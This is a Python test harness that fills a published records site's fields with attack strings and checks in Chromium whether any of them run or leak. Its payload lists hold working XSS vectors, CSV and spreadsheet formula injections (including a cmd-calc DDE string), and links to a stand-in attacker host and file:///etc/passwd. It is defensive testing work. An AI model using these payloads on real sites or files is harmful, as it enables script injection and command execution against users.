"""Attack an edition with text: payloads in every field people write, every output read by what reads it.

`python -m edition.attacks` (or `make bench-attacks`) opens every page in a real Chromium and prints what ran.
A payload that runs calls `everynameHit`, asks for an address of attack.invalid, or changes the page.
"""

from __future__ import annotations

import csv
import io
import json
import sys
import tempfile
import unicodedata
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path

import openpyxl
from playwright.sync_api import Browser, Page

from edition.browser import chromium
from edition.invented import cases, claim, day, edition_files, facts, person, report
from everyname.edition.cleaning import clean_text
from everyname.edition.data import split_values
from everyname.edition.dictionary import FIELD_TEXTS
from everyname.edition.public import PublicEdition
from everyname.edition.redact import Rules, allow
from everyname.edition.redact_persons import PersonCase
from everyname.model import Scope, Source, StatedName, StatedPlace, to_plain

__all__ = ["Outcome", "attack", "payloads"]

WORD = "Zarvand"  # stands in every name, so that one search lists them all
BREAKS = (
    *(
        "",
        '">',
        "'>",
        "</title>",
        "</script>",
        "-->",
        "]]>",
        "</style>",
        "</textarea>",
        "</svg>",
        "</bdi></p>",
    ),
    *('";', "';", "`;", "\\", "\\';", "\u2028", "*/", "}}", "%}", "<!--", "\x00"),
)
ACTIVE = (
    "<script>everynameHit({n})</script>",
    "<script src=http://attack.invalid/{n}.js></script>",
    "<img src=x onerror=everynameHit({n})>",
    "<img src=http://attack.invalid/{n}.png>",
    "<svg onload=everynameHit({n})>",
    "<svg><script>everynameHit({n})</script></svg>",
    "<svg><a xlink:href=javascript:everynameHit({n})><text>x</text></a></svg>",
    "<iframe srcdoc='<script>parent.everynameHit({n})</script>'></iframe>",
    "<a href=javascript:everynameHit({n})>x</a>",
    "<details open ontoggle=everynameHit({n})>",
    "<input autofocus onfocus=everynameHit({n})>",
    "<form action=http://attack.invalid/{n}><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=http://attack.invalid/{n}'>",
    "<base href=http://attack.invalid/{n}/>",
    "<object data=http://attack.invalid/{n}></object>",
    "<link rel=stylesheet href=http://attack.invalid/{n}.css>",
    "<style>@import 'http://attack.invalid/{n}.css';*{{background:url(http://attack.invalid/{n})}}</style>",
    "everynameHit({n})//",
    "${{everynameHit({n})}}",
    "{{{{7*7}}}}{{% print(everynameHit) %}}",
    "\\u003cscript\\u003eeverynameHit({n})\\u003c/script\\u003e",
    "&lt;script&gt;everynameHit({n})&lt;/script&gt;",
    "%3Cscript%3EeverynameHit({n})%3C/script%3E",
    "<math><mtext><table><mglyph><style><img src=x onerror=everynameHit({n})>",
)
ODD = (
    *("\u202eevil", "\u2067evil\u2066", "\u2069\u2069evil", "a\u200bb\u200dc\ufeffd", "\u061cx\u200e\u200f"),
    *(
        "\u0430\u0440\u0435\u0445",
        "علي\u0649ک",
        "a" + "\u0301" * 3_000,
        "\U000e0041\U000e0042",
        "\ue000\uffff",
    ),
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "｜calc"),
    *(
        "=cmd|'/c calc'!A0",
        '=HYPERLINK("http://attack.invalid/","x")',
        '=WEBSERVICE("http://attack.invalid/")',
    ),
    *("+98900", "00731", "1e5", "TRUE", "#REF!", "{=1}", "a|b\\c|", '"', '""', '",="', "a\r\nb", "a,b;c\td"),
    *("null", "__proto__", "constructor", "../../etc", "CON", "%00", "\\x3cscript\\x3e", "\u2028\u2029"),
    *("\x85x", 'DDE("cmd")'),
)
LINKS = (
    *("javascript:everynameHit(0)", "JaVaScRiPt:everynameHit(0)", "java\tscript:everynameHit(0)"),
    *(
        "data:text/html,<script>everynameHit(0)</script>",
        "vbscript:x",
        "file:///etc/passwd",
        "//attack.invalid/",
    ),
    *(
        'https://x.example/" onmouseover="everynameHit(0)',
        "https://x.example/'><script>everynameHit(0)</script>",
    ),
    *(
        "https://user:word@attack.invalid/",
        "https://x.example/\u202efdp",
        "http://x.example:99999999/",
        "blob:x",
    ),
)


@dataclass(slots=True)
class Outcome:
    """What one run opened, and everything that was active or came out other than it went in."""

    payloads: int = 0
    pages: int = 0
    active: list[str] = field(default_factory=list)
    changed: list[str] = field(default_factory=list)


def payloads() -> list[str]:
    """Give every payload, all different; `{n}` is its own number."""
    made = [f"{start}{active.format(n=n)}" for start in BREAKS for n, active in enumerate(ACTIVE)]
    return list(dict.fromkeys((*made, *ODD)))


def attack(browser: Browser, folder: Path, *, every_page: bool, languages: Sequence[str]) -> Outcome:
    """Write an edition full of payloads into `folder`, open its pages and read its data."""
    texts = payloads()
    done = Outcome(payloads=len(texts))
    edition = _edition(texts, tuple(languages))
    files = edition_files(edition)
    for path, data in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(data)
    done.changed += [*_tables(edition, files), *_hidden(edition, files)]
    with browser.new_context() as context:
        context.expose_function("everynameHit", lambda number: done.active.append(f"payload {number} ran"))
        page = context.new_page()
        at = [""]
        _watch(page, folder, done, at)
        for path in _pages(edition, files, every_page=every_page):
            at[0] = path
            page.goto((folder / path).as_uri())
            done.active += [f"{path}: {one}" for one in page.evaluate(_FOREIGN)]
            done.pages += 1
        _search(page, folder, texts, done, at)
    return done


def _edition(texts: list[str], languages: tuple[str, ...]) -> PublicEdition:
    """Put each payload into a name, a place, a date, a claim, a source's title, a note, and a link."""
    people = [_person(n, text) for n, text in enumerate(texts)]
    names = tuple(StatedName(text=f"{text} {WORD}", script="latin") for text in texts)
    everything = [report(names=names, links=tuple(_links(texts)))]
    everything += [report(f"S{n}", f"{WORD} {n}") for n in range(len(texts))]
    sources = [Source(name=f"S{n}", kind="list", title=text) for n, text in enumerate(texts)]
    claims = [
        replace(
            claim(id=f"c5a17c0de-{n}", stated_by=text, unit=text, place=text, period=text),
            document_title=text,
            origin=text,
        )
        for n, text in enumerate(texts)
    ]
    chunk = " ".join(text for text in texts if len(text) < 300)[:9_000]
    given = facts()
    return allow(
        replace(
            given,
            title=f"Record {texts[3]}",
            scope=Scope(title=chunk, not_included=chunk, window=given.scope.window, countries=("XA",)),
            sources=(*given.sources, *sources),
            cases=(*cases(), person(9_000, *everything), *people),
            claims=(*given.claims, *claims),
            place_names=tuple((text, text) for text in texts),
            breakdowns=(("province", tuple((text, 7) for text in texts)),),
        ),
        Rules(languages=languages, contact=chunk),
    )


def _person(number: int, text: str) -> PersonCase:
    place = StatedPlace(text=text, country="XA", province=text, city=text, precision="city")
    one = report(
        f"S{number}",
        f"{text} {WORD}",
        places=(place,),
        dates=(day("2030-02-11", text),),
        links=(text, LINKS[number % len(LINKS)]),
    )
    return person(number + 10, one, contested=text, standing="contested", corrections=(("2030-05-02", text),))


def _links(texts: list[str]) -> Iterator[str]:
    yield from LINKS
    yield from (f"https://x.example/{text}" for text in texts)


# -- in a browser ------------------------------------------------------------------------------------

_FOREIGN = """() => {
  const found = [];
  const ours = /^file:.*\\/search\\/[a-z]+(-[a-z0-9]+)?\\.js$/;
  const own = one => one.tagName === 'SCRIPT' && ours.test(one.src);
  const made = 'script, iframe, object, embed, base, frame, style, meta[http-equiv=refresh]';
  for (const one of document.querySelectorAll(made)) if (!own(one)) found.push(one.outerHTML.slice(0, 90));
  for (const one of document.querySelectorAll('*'))
    for (const name of one.getAttributeNames()) if (name.startsWith('on')) found.push(name);
  for (const one of document.querySelectorAll('[href], [src], [action]')) {
    const to = one.href || one.src || one.action;
    if (!/^(https?|file):/.test(to) || /attack\\.invalid/.test(to)) found.push(String(to).slice(0, 90));
  }
  return found;
}"""


def _watch(page: Page, folder: Path, done: Outcome, at: list[str]) -> None:
    """Note each dialog, console line (a broken content rule is one), error, and request going out."""

    def note(what: str) -> None:
        done.active.append(f"{at[0]}: {what}")

    page.on("dialog", lambda dialog: (note(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("console", lambda message: note(f"console {message.text[:120]}"))
    page.on("pageerror", lambda error: note(f"error {error.message[:120]}"))
    page.on("popup", lambda _: note("a window was opened"))
    home = folder.as_uri() + "/"
    page.on("request", lambda one: None if one.url.startswith(home) else note(f"request {one.url[:120]}"))
    page.on("requestfailed", lambda one: note(f"failed {one.url[:120]}"))


def _pages(edition: PublicEdition, files: dict[str, bytes], *, every_page: bool) -> list[str]:
    """Give the pages to open: all, or all but most of those that differ in their payload alone."""
    pages = [path for path in files if path.endswith(".html") and path != "verify.html"]
    if every_page:
        return pages
    whole = max(edition.persons, key=lambda one: len(one.names)).id
    persons = sorted(p for p in pages if "/persons/" in p or "/names/" in p or "/events/" in p)
    kept = {*persons[::60], *(path for path in persons if whole in path)}
    return [path for path in pages if path not in set(persons) - kept]


def _search(page: Page, folder: Path, texts: list[str], done: Outcome, at: list[str]) -> None:
    """Search for the word all names share and for each payload; results are letters, and nothing runs."""
    at[0] = "search"
    page.goto((folder / "en" / "names.html").as_uri())
    page.fill("#name-query", WORD)
    page.wait_for_selector("form.search ol.found li")
    done.active += [f"search: {one}" for one in page.evaluate(_FOREIGN)]
    for text in texts[:: max(1, len(texts) // 60)]:
        page.evaluate("query => { try { everynameFind(query, 'en') } catch (e) { everynameHit(e) } }", text)
    page.fill("#name-query", texts[2])
    page.wait_for_function("() => document.querySelector('form.search [role=status]').textContent !== ''")
    done.active += [f"search: {one}" for one in page.evaluate(_FOREIGN)]


# -- as data -----------------------------------------------------------------------------------------


def _tables(edition: PublicEdition, files: dict[str, bytes]) -> Iterator[str]:
    """Name what CSV, workbook or JSON gives back other than the edition says."""
    rows = list(csv.reader(io.StringIO(files["data/persons.csv"].decode(), newline="")))
    told = {row[0]: split_values(row[1]) for row in rows[1:]}
    for one in edition.persons:
        if told[one.id] != tuple(name.text for name in one.names):
            yield f"persons.csv: names of {one.id}"
    claims = list(csv.DictReader(io.StringIO(files["data/claims.csv"].decode(), newline="")))
    for row, one in zip(claims, edition.claims, strict=True):
        if row["document"] != one.document or row["stated_by"] != one.stated_by:
            yield f"claims.csv: {one.id}"
    book = openpyxl.load_workbook(io.BytesIO(files["data/tables.xlsx"]))
    for sheet in book:
        for cells in sheet.iter_rows():
            for cell in cells:
                if cell.value is not None and (cell.data_type != "s" or cell.hyperlink is not None):
                    yield f"tables.xlsx: {sheet.title} {cell.coordinate} is {cell.data_type}"
    if json.loads(files["data/persons.json"])["persons"] != [to_plain(one) for one in edition.persons]:
        yield "persons.json"
    for name in (path for path in files if path.endswith(".json")):
        json.loads(files[name])
    for line in files["proofs/statements.jsonl"].splitlines():
        json.loads(json.loads(line)["statement"])
    if set(FIELD_TEXTS) - {name.removeprefix("data/") for name in files}:
        yield "a table is missing"


def _hidden(edition: PublicEdition, files: dict[str, bytes]) -> Iterator[str]:
    """Name the data in which a control or direction character is left, and a payload that lost letters."""
    for name in ("data/persons.csv", "data/claims.csv", "data/persons.json", "data/claims.json"):
        for char in set(files[name].decode()) - set("\r\n\u200c\u200d"):
            if unicodedata.category(char) in ("Cc", "Cf", "Co", "Cn", "Zl", "Zp"):
                yield f"{name}: U+{ord(char):04X}"
    shown = {name.text for one in edition.persons for name in one.names}
    yield from (f"lost: {text[:40]!r}" for text in payloads() if clean_text(f"{text} {WORD}") not in shown)


def main() -> None:
    """Open every page in English and Persian, and print the outcome."""
    with tempfile.TemporaryDirectory() as folder, chromium() as browser:
        done = attack(browser, Path(folder), every_page=True, languages=("en", "fa"))
    print(f"{done.payloads} payloads in every field; {done.pages} pages opened in Chromium")
    print(f"active: {len(done.active)}; data that came out otherwise: {len(done.changed)}")
    for line in (*done.active, *done.changed)[:20]:
        print(f"  {line}")
    sys.exit(1 if done.active or done.changed else 0)


if __name__ == "__main__":
    main()
